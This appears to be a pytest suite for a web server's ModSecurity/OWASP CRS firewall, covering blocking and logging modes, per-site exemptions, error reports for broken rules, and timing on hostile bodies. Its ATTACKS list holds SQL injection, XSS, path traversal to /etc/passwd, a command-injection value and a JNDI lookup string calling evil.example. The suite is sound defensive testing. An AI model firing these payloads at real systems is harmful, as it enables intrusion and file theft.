"""The web application firewall over the OWASP Core Rule Set: what it refuses, what it only logs, what it
lets pass, over HTTP/1 and HTTP/2; mistakes in rules; and how long a hostile body may keep it busy."""

import re
import time
from pathlib import Path

import pytest

import lib

CRS = Path("/usr/share/modsecurity-crs/rules")
needs_crs = pytest.mark.skipif(not CRS.is_dir(), reason="takes Debian's package modsecurity-crs")

ATTACKS = [
    "/?id=1%27%20or%20%271%27=%271",
    "/?id=-1%20union%20select%20user,password%20from%20users",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?q=%22%20onmouseover=%22alert(1)",
    "/?file=../../../../etc/passwd",
    "/?cmd=;cat%20/etc/passwd",
    "/?x=${jndi:ldap://evil.example/a}",
]
ORDINARY = ["/", "/?q=rock%20and%20roll", "/?name=O%27Brien", "/?text=1%20%3C%202%20and%20it%20is%20fine",
            "/index.html?page=2&sort=name"]


def settings(mode, **more):
    def make(gardien):
        return {"protect": {"waf": mode, **more},
                "sites": [{"names": ["localhost"], "files": str(gardien.public)}]}
    return make


@pytest.fixture
def guarded(start):
    return start(config=settings("on"))


@needs_crs
@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_attacks_are_refused_and_ordinary_requests_are_not(guarded, version):
    agent = ("-A", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "-H", "Accept: text/html")
    for path in ATTACKS:
        assert guarded.curl(path, version, "-g", *agent).status == 403, path
    for path in ORDINARY:
        assert guarded.curl(path, version, "-g", *agent).status == 200, path
    said = guarded.output()
    assert re.search(r'event="waf match" id=942100 request=[0-9a-f]{32} host="localhost"', said)
    assert re.search(r'id=941100 .*variable="ARGS:q"', said)


@needs_crs
def test_watching_logs_and_refuses_nothing(start):
    gardien = start(config=settings("watch"))
    for path in ATTACKS:
        assert gardien.curl(path, "-g").status == 200, path
    assert len(re.findall('event="waf match"', gardien.output())) >= len(ATTACKS)


@needs_crs
def test_a_site_may_be_left_out_and_a_reload_changes_the_mode(start):
    def make(gardien):
        return {"protect": {"waf": "on"},
                "sites": [{"names": ["localhost"], "files": str(gardien.public)},
                          {"names": ["open.localhost"], "files": str(gardien.public),
                           "protect": {"waf": "off"}}]}
    gardien = start(config=make)
    assert gardien.curl(ATTACKS[0], "-g").status == 403
    assert gardien.curl(ATTACKS[0], "-g", name="open.localhost").status == 200
    gardien.write_config(settings("off")(gardien))
    assert gardien.cli("reload").returncode == 0
    assert gardien.curl(ATTACKS[0], "-g").status == 200


def test_rules_of_ones_own_work_without_the_rule_set(start, tmp_path):
    rules = tmp_path / "own.conf"
    rules.write_text('SecRule ARGS:secret "@streq xyzzy" "id:1,phase:1,deny,status:418,msg:\'magic\'"\n'
                     'SecRule REQUEST_METHOD "@streq DELETE" "id:2,phase:1,drop"\n')
    gardien = start(config=settings("on", waf_rules=[str(rules)]))
    assert gardien.curl("/?secret=xyzzy").status == 418
    assert gardien.curl("/?secret=other").status == 200
    assert gardien.curl_code("/", "-X", "DELETE", "--http1.1").returncode != 0


@pytest.mark.parametrize("text, sentence", [
    ('SecRule ARGS "@rx (" "id:1"', "the pattern of rule 1 is wrong"),
    ('SecRule ARGZ "x" "id:1"', "there is no variable ARGZ"),
    ('SecRule ARGS "@magic x" "id:1"', "there is no operator @magic"),
    ('SecRule ARGS "x" "id:1,t:rot13"', "there is no transformation rot13"),
    ('SecRule ARGS "x" "id:1,frobnicate"', "there is no action frobnicate"),
    ('SecRule ARGS "x" "id:1,exec:/bin/sh"', "the action exec is not to be had"),
    ('SecRule ARGS "x" "id:1,skipAfter:END"', "rule 1 skips to END, which no SecMarker after it names"),
    ('SecRule ARGS "x" "id:1,chain"', "the file ends within a chain"),
    ('SecRule ARGS "x', "a quote is not closed"),
    ('SecFrob On', "there is no directive SecFrob"),
])
def test_mistakes_in_rules_are_told_with_file_and_line(tmp_path, text, sentence):
    rules, config = tmp_path / "own.conf", tmp_path / "gardien.yaml"
    rules.write_text("# first\n" + text + "\n")
    config.write_text(f"protect: {{waf: on, waf_rules: [{rules}]}}\n"
                      f"sites: [{{names: [localhost], files: {tmp_path}}}]\n")
    checked = lib.run(lib.BINARY, "config", "check", config)
    assert checked.returncode != 0
    assert sentence in checked.stdout + checked.stderr
    assert f"{rules}:2" in checked.stdout + checked.stderr


@needs_crs
def test_a_hostile_body_keeps_a_worker_busy_for_a_moment_only(guarded):
    for body in ("a=" + "-" * 120000, "a=" + "<" * 120000, "a=" + "'" * 120000,
                 "a=" + "select " * 17000):
        file = guarded.folder / "body"
        file.write_text(body)
        began = time.monotonic()
        status = guarded.curl("/", "--data-binary", f"@{file}").status
        assert status in (403, 405), status
        assert time.monotonic() - began < 1.5 * lib.PATIENCE
